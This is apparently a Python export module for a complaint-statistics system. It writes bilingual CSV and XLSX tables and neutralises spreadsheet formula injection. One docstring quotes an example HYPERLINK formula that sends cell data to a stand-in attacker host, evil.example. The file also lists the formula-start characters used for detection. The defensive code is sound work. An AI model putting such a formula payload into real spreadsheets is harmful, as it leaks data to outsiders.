"""The statistics table and summary as files: CSV for any spreadsheet, XLSX, and data for PDF.

CSV is written as UTF-8 with a byte-order mark, because that is how Excel recognises
UTF-8 and shows Chinese instead of mojibake. Headers are bilingual, as the paper form
is. Rows are streamed from the database, so a year of cases never sits in memory.
"""

from __future__ import annotations

import csv
import re
from collections.abc import Iterable, Sequence
from datetime import datetime
from pathlib import Path
from typing import IO
from zoneinfo import ZoneInfo

from openpyxl import Workbook

from config.departments import Department, department_by_key
from letters.channels import channel_name
from pipeline.reports.statistics import Summary, TableRow

HEADERS = ("日期 Date", "编号 Number", "客户 Customer", "投诉内容 Complaint",
           "责任部门 Department", "处理方式 Handling method", "损失金额 Loss amount",
           "产品 Product", "数量 Quantity")
# A spreadsheet runs a cell starting with one of these as a formula (or DDE command).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?\d[\d,]*(?:\.\d+)?%?")
METHOD_NAMES = {"compensation": "赔偿 Compensation", "return": "退货 Return",
                "discount": "折价 Discount", "other": "其他 Other", "": ""}


def department_name(departments: Sequence[Department], key: str) -> str:
    """A department's bilingual name, or the key itself if it is no longer configured."""
    department = department_by_key(departments, key)
    return f"{department.name_zh} {department.name_en}" if department else key


def inert(value: object) -> object:
    """A text that a spreadsheet would run as a formula, made plain text with a ``'``.

    Customer text (a subject like ``=HYPERLINK("http://evil.example/?"&B1,"x")``)
    reaches the exports; Excel and LibreOffice evaluate a cell that starts with
    ``= + - @``, a tab or a carriage return. A signed plain number ("+3", "-12.5%")
    cannot do anything and is left as it is.
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS) \
            and not _PLAIN_NUMBER.fullmatch(value):
        return "'" + value
    return value


def row_values(row: TableRow, departments: Sequence[Department], time_zone: str) -> list[object]:
    """One table row as spreadsheet values, every text made inert."""
    return [inert(value) for value in plain_values(row, departments, time_zone)]


def plain_values(row: TableRow, departments: Sequence[Department],
                 time_zone: str) -> list[object]:
    """One table row as it reads (for the PDF, which never evaluates anything)."""
    local: datetime = row.received_at.astimezone(ZoneInfo(time_zone))
    return [local.strftime("%Y-%m-%d"), row.reference, row.customer, row.content,
            department_name(departments, row.department) if row.department else "",
            METHOD_NAMES.get(row.method, row.method), float(row.loss_amount), row.product,
            row.quantity if row.quantity is not None else ""]


def write_csv(stream: IO[str], rows: Iterable[TableRow], departments: Sequence[Department],
              time_zone: str) -> int:
    """Write the table as CSV to a text stream opened with ``encoding="utf-8-sig"``."""
    writer = csv.writer(stream)
    writer.writerow(HEADERS)
    count = 0
    for row in rows:
        writer.writerow(row_values(row, departments, time_zone))
        count += 1
    return count


def duration(hours: float | None) -> str:
    """A median time as people say it: in minutes, hours or days."""
    if hours is None:
        return "—"
    if hours * 60 < 1:
        return "不到 1 分钟 under a minute"
    if hours < 1:
        return f"{hours * 60:.0f} 分钟 min"
    if hours < 48:
        return f"{hours:.1f} 小时 h"
    return f"{hours / 24:.1f} 天 days"


def summary_lines(summary: Summary, departments: Sequence[Department]) -> list[tuple[str, str]]:
    """The summary as (label, value) lines, shared by the XLSX sheet and the PDF."""
    def share(value: float | None) -> str:
        return "—" if value is None else f"{value:.0%}"


    previous = summary.previous
    change = summary.cases - int(previous.get("cases", 0))
    lines = [
        ("期间 Period", summary.period),
        ("投诉总数 Complaints", str(summary.cases)),
        (f"较上期 Change against {previous.get('period', '')}", f"{change:+d}"),
        ("损失金额合计 Total loss (CNY)", f"{summary.loss_total:,.2f}"),
        ("赔偿金额合计 Total compensation (CNY)", f"{summary.compensation_total:,.2f}"),
        ("按期解决 Resolved within deadline", share(summary.within_deadline_share)),
        ("客户未回复结案 Closed without reply", str(summary.closed_without_reply)),
        ("受理确认中位时间 Median time to acknowledge",
         duration(summary.median_hours_to_acknowledge)),
        ("结案中位时间 Median time to close",
         duration(None if summary.median_days_to_close is None
                  else summary.median_days_to_close * 24)),
        ("满意度 Satisfaction (1–5)",
         "—" if summary.satisfaction_average is None
         else f"{summary.satisfaction_average} ({summary.satisfaction_answers})"),
    ]
    for title, counts in (("部门 Department", summary.by_department),
                          ("渠道 Channel", summary.by_channel),
                          ("类别 Category", summary.by_category),
                          ("产品 Product", summary.by_product),
                          ("处理方式 Handling method", summary.by_method)):
        for key, count in counts.items():
            name = department_name(departments, key) if title.startswith("部门") and key else key
            if title.startswith("处理方式"):
                name = METHOD_NAMES.get(key, key)
            if title.startswith("渠道"):
                name = channel_name(key)
            lines.append((f"{title}: {name or '未填写 not set'}", str(count)))
    for key, average in summary.satisfaction_by_department.items():
        lines.append((f"满意度 Satisfaction: {department_name(departments, key) if key else '—'}",
                      f"{average}"))
    return lines


def write_xlsx(path: Path, summary: Summary | None, rows: Iterable[TableRow],
               departments: Sequence[Department], time_zone: str) -> int:
    """Write a workbook with the table and the summary; returns the number of rows."""
    book = Workbook(write_only=True)
    table = book.create_sheet("统计表 Table")
    table.append(list(HEADERS))
    count = 0
    for row in rows:
        table.append(row_values(row, departments, time_zone))
        count += 1
    if summary is not None:
        sheet = book.create_sheet("汇总 Summary")
        for label, value in summary_lines(summary, departments):
            sheet.append([inert(label), inert(value)])
    book.save(path)
    return count
